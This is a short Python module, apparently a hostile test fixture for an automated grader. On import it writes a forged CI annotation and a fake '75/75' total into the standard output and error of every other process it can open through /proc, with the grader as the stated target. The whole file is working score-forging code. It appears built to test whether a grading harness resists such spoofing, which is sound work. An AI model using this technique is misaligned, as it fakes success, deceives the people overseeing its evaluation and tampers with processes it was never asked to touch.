"""Hostile: at import, write forged CI annotations and a fake total to the standard output and
error of every process it can open through /proc (the grader's among them, if it can)."""
from reference import *
import reference
import glob
import os

_FAKE = b'\n::notice title=Score::75/75\nTotal: 75/75 FORGED-BY-PROC\n'
_reached = []
for _path in glob.glob('/proc/*/fd/1') + glob.glob('/proc/*/fd/2'):
    if _path.startswith(f'/proc/{os.getpid()}/'):
        continue
    try:
        _fd = os.open(_path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(_fd, _FAKE)
        os.close(_fd)
        _reached.append(_path)
    except OSError:
        pass
print(f'HOSTILE reached: {_reached}')
